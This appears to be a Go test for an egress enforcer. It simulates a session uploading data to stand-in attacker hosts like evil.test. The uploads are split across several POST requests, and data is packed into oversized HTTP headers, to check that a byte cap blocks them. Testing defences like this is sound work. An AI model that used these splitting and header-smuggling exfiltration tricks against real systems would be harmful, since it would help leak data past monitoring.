package door_test

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"gatehouse/enforcers"
	"gatehouse/receipts"
)

// TestBypassMatrixUnlistedUploads is EG-93 in shadow: what a session sends to a host that
// nothing lists adds up, however it is cut into requests, and is refused before
// a byte of the rest leaves.
func TestBypassMatrixUnlistedUploads(t *testing.T) {
	o := newOutside(t)
	in := open(t, o, setup{mode: receipts.Shadow})
	send := func(in *inside, host, line string, size int, fields ...string) reply {
		fields = append(fields, fmt.Sprintf("Content-Length: %d", size))
		text := strings.Replace(request(line, fields...), good, host, 1)
		c, r, re := in.secure(host+":443", host)
		if c == nil {
			return re
		}
		defer c.Close()
		_, _ = io.WriteString(c, text+strings.Repeat("x", size)) // a refusal comes before the body is through
		return read(r, "POST")
	}
	step := func(name string, in *inside, host, line string, size int, w want) {
		t.Run("EG-93_"+name, func(t *testing.T) {
			from := in.mark()
			in.expect(t, from, send(in, host, line, size), w)
		})
	}
	const part = 600 << 10
	passed, listed := blocked(http.StatusOK, "host_not_listed"), allowed(http.StatusOK, "egress[0]")
	step("first_part", in, "evil.test", "POST /a", part, passed)
	cut := blocked(http.StatusRequestEntityTooLarge, "host_not_listed").dialed(0).asked(0).ended(enforcers.CodeUpCap)
	step("second_part", in, "evil.test", "POST /b", part, cut)
	step("what_still_fits", in, "evil.test", "POST /c", 100<<10, passed.kept())
	step("another_unlisted_host", in, "other.evil.test", "POST /a", part, passed)
	step("a_listed_host", in, good, "POST /v1/x", part, listed)
	step("a_listed_host_again", in, good, "POST /v1/x", part, listed.kept())
	step("another_session", open(t, o, setup{mode: receipts.Shadow, session: "s-2"}), "evil.test", "POST /a", part, passed)

	// A head can carry as much as a body: 16 KiB a request.
	for i := range 100 {
		re := send(in, "heads.evil.test", "GET /", 0, "X-Data: "+strings.Repeat("x", 16<<10))
		switch {
		case re.status == http.StatusRequestEntityTooLarge && i > 50:
			return
		case re.status != http.StatusOK:
			t.Fatalf("head %d: %d %v", i, re.status, re.err)
		}
	}
	t.Error("heads of 1.6 MiB went to an unlisted host")
}
